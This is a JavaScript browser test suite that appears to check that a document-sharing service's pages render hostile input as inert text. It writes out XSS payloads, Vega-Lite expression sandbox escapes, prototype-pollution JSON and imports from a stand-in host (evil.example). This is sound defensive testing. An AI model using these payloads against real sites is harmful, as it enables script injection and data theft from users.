// Shared pages under attack: every field that a sender fills holds every text that tries to become code.
// With the pages' policy nothing is even tried, and without it nothing succeeds either.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { hostilePdf } from "../documents/hostile_pdf.mjs";
import { addresses, payloads } from "../documents/payloads.mjs";
import { content as pdfContent } from "../documents/pdf_writer.mjs";
import { markdown, newAccount, origin, share } from "../integration/api_client.mjs";
import { launch } from "./browser.mjs";
import { watch } from "./intrusion_watch.mjs";

let browser;
let key;
before(async () => {
  browser = await launch();
  ({ key } = newAccount());
});
after(() => browser.close());

const modes = [
  ["under the policy", false],
  ["without the policy", true],
];

// Shares each of the artifacts once, for both modes.
const links = new Map();
function linksTo(name, make) {
  if (!links.has(name))
    links.set(name, Promise.all(make().map(async (artifact) => (await share(key, artifact)).url)));
  return links.get(name);
}

// Without the policy every page is tried. What executes nothing there executes nothing under the policy
// either, so that a third of them is enough to see that nothing is even tried.
const chosenOf = (urls, isPolicyOff) => (isPolicyOff ? urls : urls.filter((_, i) => i % 3 === 0));

// Opens each of the pages, in a tab of its own per so many, and does all that can be done to it.
async function attack(all, isPolicyOff, whenReady = () => {}, options = {}) {
  const urls = chosenOf(all, isPolicyOff);
  const tabs = 3;
  await Promise.all(
    Array.from({ length: Math.min(tabs, urls.length) }, async (_, tab) => {
      const visitor = await watch(browser, origin, { isPolicyOff, ...options });
      for (let i = tab; i < urls.length; i += tabs) {
        try {
          await visitor.visit(urls[i]);
          await whenReady(visitor.page);
          await visitor.inspect();
          await visitor.touchEverything();
          await visitor.inspect();
        } catch (error) {
          // What went wrong before tells more.
          visitor.assertNoTrouble(error.message);
          throw error;
        }
      }
      visitor.assertNoTrouble();
      await visitor.context.close();
    }),
  );
}

const chunks = (list, size) =>
  Array.from({ length: Math.ceil(list.length / size) }, (_, i) => list.slice(i * size, (i + 1) * size));

// The texts, put together into as few as have at most `limit` characters each.
function packed(texts, limit) {
  const packs = [];
  let room = 0;
  for (const text of texts) {
    const length = [...text].length;
    if (length > limit) continue;
    if (length + 1 > room) {
      packs.push(text);
      room = limit - length;
    } else {
      packs[packs.length - 1] += ` ${text}`;
      room -= length + 1;
    }
  }
  return packs;
}

// Titles have no control characters, and rows of Markdown no line breaks.
const withoutControls = (text) => text.replace(/\p{Cc}/gu, " ");
const beginning = (text, length) => [...text].slice(0, length).join("");
const oneLine = (text) => text.replace(/[\r\n]+/g, " ");

const all = [...payloads, ...addresses];
const titles = packed(all.map(withoutControls), 255).filter((title) => title.trim() !== "");
const descriptions = packed(all.map(withoutControls), 2000);

for (const [mode, isPolicyOff] of modes) {
  test(`titles, descriptions, file names and metadata stay text ${mode}`, async () => {
    const urls = await linksTo("titles", () =>
      titles.map((title, i) => {
        const description = descriptions[i % descriptions.length];
        const metadata = { [beginning(payloads[i], 60)]: { [title]: [description] } };
        const more = { description, metadata, expiresIn: "1h" };
        // A file's name stands for a title that is missing.
        if (i % 3 === 0)
          return { template: "pdf", content: { url: "https://example.org/x.pdf", filename: title }, ...more };
        if (i % 3 === 1) return { template: "table", content: { rows: [[title]] }, title, ...more };
        return markdown("x", { title, ...more });
      }),
    );
    const visitor = await watch(browser, origin, { isPolicyOff });
    await visitor.visit(urls[0]);
    // So many pages are parsed and run much sooner in frames of one than each in the tab.
    for (const some of chunks(chosenOf(urls, isPolicyOff), 50)) await visitor.inspectInFrames(some);
    visitor.assertNoTrouble();
    await visitor.context.close();
  });
}

// Places in a document that a text can stand in.
const fence = "~~~~~~~~~~~~";
const places = {
  paragraphs: (text) => text,
  headings: (text) => `## ${oneLine(text)}`,
  lists: (text) => `- [ ] ${oneLine(text)}`,
  quotations: (text) => `> [!NOTE]\n> ${oneLine(text)}`,
  "cells of tables": (text) =>
    `| ${oneLine(text)} | b |\n|---|---|\n| ${oneLine(text)} | *${oneLine(text)}* |`,
  "texts of links": (text) =>
    `[${text}](https://example.org/ "x") ![${text}](https://images.example/x.png "x")`,
  "titles of links": (text) =>
    `[x](https://example.org/ "${text}") ![x](https://images.example/x.png '${text}')`,
  "addresses of links": (text) =>
    [
      `[x](https://example.org/${text})`,
      `[x](<https://example.org/${text}>)`,
      `![x](<https://images.example/${text}>)`,
      `https://example.org/${text}`,
      `<https://example.org/${text}>`,
    ].join("\n\n"),
  "spans of code": (text) => `\`\`\`\` ${text} \`\`\`\``,
  "blocks of code": (text) => `${fence}html\n${text}\n${fence}`,
  "names of languages": (text) => `${fence} ${oneLine(text)}\n${oneLine(text)}\n${fence}`,
  formulas: (text) => `$${oneLine(text)}$ and $\\text{${oneLine(text)}}$\n\n$$\n${text}\n$$`,
  footnotes: (text, i) => `x[^${i}] y[^${beginning(oneLine(text), 40)}]\n\n[^${i}]: ${oneLine(text)}`,
  references: (text, i) => `[r${i}]\n\n[r${i}]: <https://example.org/${oneLine(text)}> "${oneLine(text)}"`,
};
const theEnd = "The end of the hostile document";
// A text that opens a block of code would hide all that follows, and so does it come last.
const opensCode = (text) => /^\s*(```|~~~)/m.test(text);
const documentOf = (texts, place) =>
  [...texts.filter((text) => !opensCode(text)), ...texts.filter(opensCode)].map(place).join("\n\n");

for (const [mode, isPolicyOff] of modes) {
  test(`texts in every place of a Markdown document stay text ${mode}`, async () => {
    const short = payloads.filter((text) => text.length < 10_000);
    const urls = await linksTo("markdown", () =>
      Object.values(places).flatMap((place, i) =>
        chunks(short, 500).map((texts, part) =>
          markdown(`${theEnd}\n\n${documentOf(texts, place)}`, { title: titles[3 * i + part] }),
        ),
      ),
    );
    await attack(urls, isPolicyOff, async (page) => {
      // Else the document was too much, and is shown as its source.
      assert.equal(await page.locator("article > p", { hasText: theEnd }).count(), 1, page.url());
      if (await page.locator(".math").count())
        await page.waitForFunction(
          () => !document.querySelector(".math:not(.is-drawn, .is-wrong)"),
          undefined,
          { timeout: 0 },
        );
    });
  });

  test(`addresses in Markdown lead to the web or nowhere ${mode}`, async () => {
    const urls = await linksTo("addresses", () => [
      markdown(
        [
          ...addresses.flatMap((address, i) => [
            `[x](${address}) [x](<${address}>) ![x](${address}) ![x](<${address}>) <${address}>`,
            `[a${i}] ![a${i}]\n\n[a${i}]: <${oneLine(address)}>`,
          ]),
        ].join("\n\n"),
      ),
      // The same as HTML, which is shown as what it is.
      markdown(
        addresses
          .map(
            (address) => `<a href="${address}">x</a> <img src="${address}"> <https://example.org/${address}>`,
          )
          .join("\n\n"),
      ),
    ]);
    await attack(urls, isPolicyOff);
  });
}

// Charts as Chart.js and Vega-Lite take them, with a text in every place that has one.
const chartOf = (texts) => ({
  type: "bar",
  title: texts[0],
  data: {
    labels: texts,
    datasets: texts.slice(0, 8).map((text, i) => ({
      label: text,
      data: texts.map((_, place) => place + i),
      backgroundColor: text,
      borderColor: [text, `url(${text})`],
      stack: text,
      yAxisID: text,
      pointStyle: text,
      [beginning(text, 60)]: text,
    })),
  },
  options: {
    onClick: "executed()",
    onHover: "function () { executed(); }",
    [texts[1]]: texts[2],
    plugins: {
      title: { display: true, text: texts },
      legend: { position: texts[0], onClick: "executed()", labels: { generateLabels: "executed()" } },
      tooltip: { external: "executed()", callbacks: { label: "executed()", title: texts[3] } },
      [texts[4]]: { beforeInit: "executed()" },
    },
    scales: {
      x: { title: { display: true, text: texts[5] }, ticks: { callback: "executed()" } },
      [`y${texts[6]}`]: { type: texts[7], title: { display: true, text: texts[7] } },
    },
  },
});
const pollution = [
  `{"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}`,
  `{"scales": {"__proto__": {"polluted": 1}, "constructor": {"axis": "y"}, "prototype": {"axis": "x"}}}`,
  `{"plugins": {"__proto__": {"polluted": 1, "legend": {"polluted": 1}}, "legend": {"__proto__": {"polluted": 1}}}}`,
].map((options) => ({
  type: "line",
  labels: ["__proto__", "constructor"],
  datasets: JSON.parse(
    `[{"label": "__proto__", "data": [1, 2], "__proto__": {"polluted": 1}}, {"label": "toString", "data": {"__proto__": 1}}]`,
  ),
  options: JSON.parse(options),
}));

const drawn = (page) => page.locator(".chart-frame canvas, .chart-problem").first().waitFor();

const schema = "https://vega.github.io/schema/vega-lite/v5.json";
const specification = (more, values = [{ a: "x", b: 1 }]) => ({
  $schema: schema,
  data: { values },
  mark: "bar",
  encoding: { x: { field: "a", type: "nominal" }, y: { field: "b", type: "quantitative" } },
  ...more,
});
const specificationOf = (texts) => ({
  ...specification(
    {
      title: { text: texts, subtitle: texts[0], href: texts[1] },
      description: texts[2],
      mark: { type: "bar", tooltip: true, href: texts[3], description: texts[4], cursor: texts[5] },
      usermeta: { embedOptions: { patch: texts[6], sourceHeader: texts[7], loader: { target: texts[8] } } },
    },
    texts.map((text, b) => ({ a: text, b, u: text, [beginning(text, 60)]: text })),
  ),
  encoding: {
    x: { field: "a", type: "nominal", title: texts[9], axis: { labelExpr: "datum.label" } },
    y: { field: "b", type: "quantitative" },
    color: { field: "u", legend: { title: texts[10] } },
    href: { field: "u" },
    url: { field: "u" },
    tooltip: [{ field: "u", title: texts[11] }],
  },
});
// Ways out of an expression, to the page or to another host.
const expressions = [
  "executed()",
  "window.executed()",
  "this.executed()",
  "[].constructor.constructor('executed()')()",
  "''.sub.constructor('executed()')()",
  "datum['const' + 'ructor']['constructor']('executed()')()",
  "datum.__proto__.constructor.constructor('executed()')()",
  "toString.constructor.call(1, 'executed()')()",
  "({}).constructor.defineProperty",
  "event.view.executed()",
  "event.view.constructor.constructor('executed()')()",
  "event.target.ownerDocument.defaultView.executed()",
  "item().context.view.constructor('executed()')",
  "(function () { executed() })()",
  "(() => executed())()",
  "`${executed()}`",
  "new Function('executed()')()",
  "eval('executed()')",
  "import('//evil.example/x.js')",
  "setdata('x', executed())",
  "replace('x', 'x', executed)",
  "map([1], executed)",
  "datum.a = executed()",
  "modify('source_0', [{toString: executed}], true, null, null)",
  "vlSelectionTest('x', {valueOf: executed})",
  "format(1, {toString: executed})",
  "warn(executed())",
  "containerSize().constructor.constructor('executed()')()",
  "pluck([{}], 'constructor').constructor.constructor('executed()')()",
];
const vegaLite = [
  ...expressions.map((calculate) => specification({ transform: [{ calculate, as: "c" }] })),
  specification({ params: expressions.map((expr, i) => ({ name: `p${i}`, expr })) }),
  specification({ params: [{ name: "p", bind: { element: "body", input: "text" }, value: 1 }] }),
  specification({ params: [{ name: "p", bind: { input: "<img src=x onerror=executed()>" }, value: "x" }] }),
  specification({ params: [{ name: "p", select: { type: "point", on: "window:mousemove[executed()]" } }] }),
  specification({ datasets: JSON.parse(`{"__proto__": [{"polluted": 1}]}`), data: { name: "__proto__" } }),
  specification({
    config: JSON.parse(`{"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}`),
  }),
  specification({ mark: { type: "image", url: "https://evil.example/x.png", width: 50, height: 50 } }),
  specification({
    mark: {
      type: "image",
      url: `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="executed()"/>`,
      width: 50,
      height: 50,
    },
  }),
  specification({ mark: { type: "text", text: "x", font: "x; background: url(https://evil.example/x)" } }),
  specification({ background: { expr: "executed()" } }),
  specification({ view: { cursor: "url(https://evil.example/x), auto" } }),
];

for (const [mode, isPolicyOff] of modes) {
  test(`texts and options of charts stay data ${mode}`, async () => {
    const urls = await linksTo("charts", () =>
      [...chunks(all, 160).map(chartOf), ...pollution].map((content, i) => ({
        template: "chart",
        title: titles[i],
        content,
      })),
    );
    await attack(urls, isPolicyOff, drawn);
  });

  test(`Vega-Lite specifications reach nothing but their data ${mode}`, async () => {
    const urls = await linksTo("vega-lite", () =>
      [...chunks(all, 320).map(specificationOf), ...vegaLite].map((content) => ({
        template: "chart",
        content,
      })),
    );
    await attack(urls, isPolicyOff, async (page) => {
      await drawn(page);
      const canvas = page.locator(".chart-frame canvas").first();
      if (!(await canvas.count())) return;
      await canvas.scrollIntoViewIfNeeded();
      const { x, y, width, height } = await canvas.boundingBox();
      for (const part of [0.3, 0.5, 0.7]) await page.mouse.click(x + width * part, y + height * 0.7);
    });
  });

  test(`cells and headings of tables stay text ${mode}`, async () => {
    const formats = [undefined, "link", "number", "date", "currency", "percent"];
    const urls = await linksTo("tables", () => [
      ...[all.slice(0, 900), all.slice(900), [...Array(1000).fill(""), ...all]].map((texts) => ({
        template: "table",
        content: {
          columns: formats.map((format, i) => ({
            key: `k${i}`,
            label: payloads[i],
            format,
            align: payloads[i],
          })),
          rows: texts.map((text) => formats.map(() => text)),
        },
      })),
      { template: "table", content: { rows: all.map((text) => [{ [text]: [text] }]) } },
      {
        template: "table",
        content: { csv: all.map((text) => `"${text.replaceAll('"', '""')}",x`).join("\r\n") },
      },
      ...chunks(all, 90).map((columns) => ({ template: "table", content: { columns, rows: [columns] } })),
      ...chunks(
        payloads.filter((text) => text.length < 200),
        90,
      ).map((keys) => ({
        template: "table",
        content: { rows: [Object.fromEntries(keys.map((name) => [name, name]))] },
      })),
    ]);
    await attack(urls, isPolicyOff, async (page) => {
      await page.getByRole("searchbox").waitFor();
      for (const part of [1, 0.5])
        await page
          .locator(".table-wrap")
          .evaluate((frame, share) => (frame.scrollTop = frame.scrollHeight * share), part);
      await page.getByRole("searchbox").fill("<img");
      await page.getByRole("searchbox").fill("");
    });
  });

  test(`content that is shown as JSON stays text ${mode}`, async () => {
    const urls = await linksTo("json", () => {
      const content = { nothing: all, known: Object.fromEntries(payloads.map((text, i) => [text, i])) };
      return ["markdown", "chart", "table", "pdf"].map((template) => ({ template, content }));
    });
    await attack(urls, isPolicyOff);
  });

  test(`PDFs execute nothing and lead to the web or nowhere ${mode}`, async () => {
    const latin = addresses.filter((address) => !/[^\x01-\xff]/.test(address));
    const urls = await linksTo("pdf", () => [
      { template: "pdf", content: pdfContent(hostilePdf(latin)) },
      {
        template: "pdf",
        content: {
          html: `<p>${payloads
            .filter((text) => text.length < 200)
            .slice(0, 400)
            .join("<p>")}`,
        },
      },
      {
        template: "pdf",
        content: {
          html: addresses
            .slice(0, 200)
            .map((address) => `<a href="${address}">x</a> <img src="${address}">`)
            .join(" "),
        },
      },
      { template: "pdf", content: { markdown: documentOf(payloads.slice(0, 300), places.paragraphs) } },
    ]);
    await attack(urls, isPolicyOff, async (page) => {
      await page
        .locator(`.page[data-page-number="1"] .annotationLayer, #file-card.is-final`)
        .first()
        .waitFor({ state: "attached", timeout: 120_000 });
    });
  });
}

for (const [mode, isPolicyOff] of modes) {
  test(`addresses of pages that are made up execute nothing ${mode}`, async () => {
    const locked = (await share(key, markdown("x", { password: "open sesame" }))).url;
    const odd = [
      `"><img src=x onerror=executed()>`,
      "javascript:executed()",
      "//evil.example/",
      "</script><svg onload=executed()>",
    ];
    const visitor = await watch(browser, origin, { isPolicyOff });
    for (const text of odd) {
      const value = encodeURIComponent(text);
      for (const url of [
        `${locked}&x=${value}#${value}`,
        `${locked}&next=${text.replace(/[ "<>]/g, encodeURIComponent)}`,
      ])
        await visitor.visit(url, { status: 401 }).then(visitor.inspect);
      for (const url of [`${origin}/a/${value}`, `${origin}/a/x?token=${value}#${value}`])
        await visitor.visit(url, { status: 404 }).then(visitor.inspect);
      const docs = `${origin}/docs?url=${value}&configUrl=${value}&spec=${value}#/${value}/${value}`;
      await visitor.visit(docs);
      await visitor.page.locator(".opblock").first().waitFor();
    }
    visitor.assertNoTrouble();
    await visitor.context.close();
  });
}
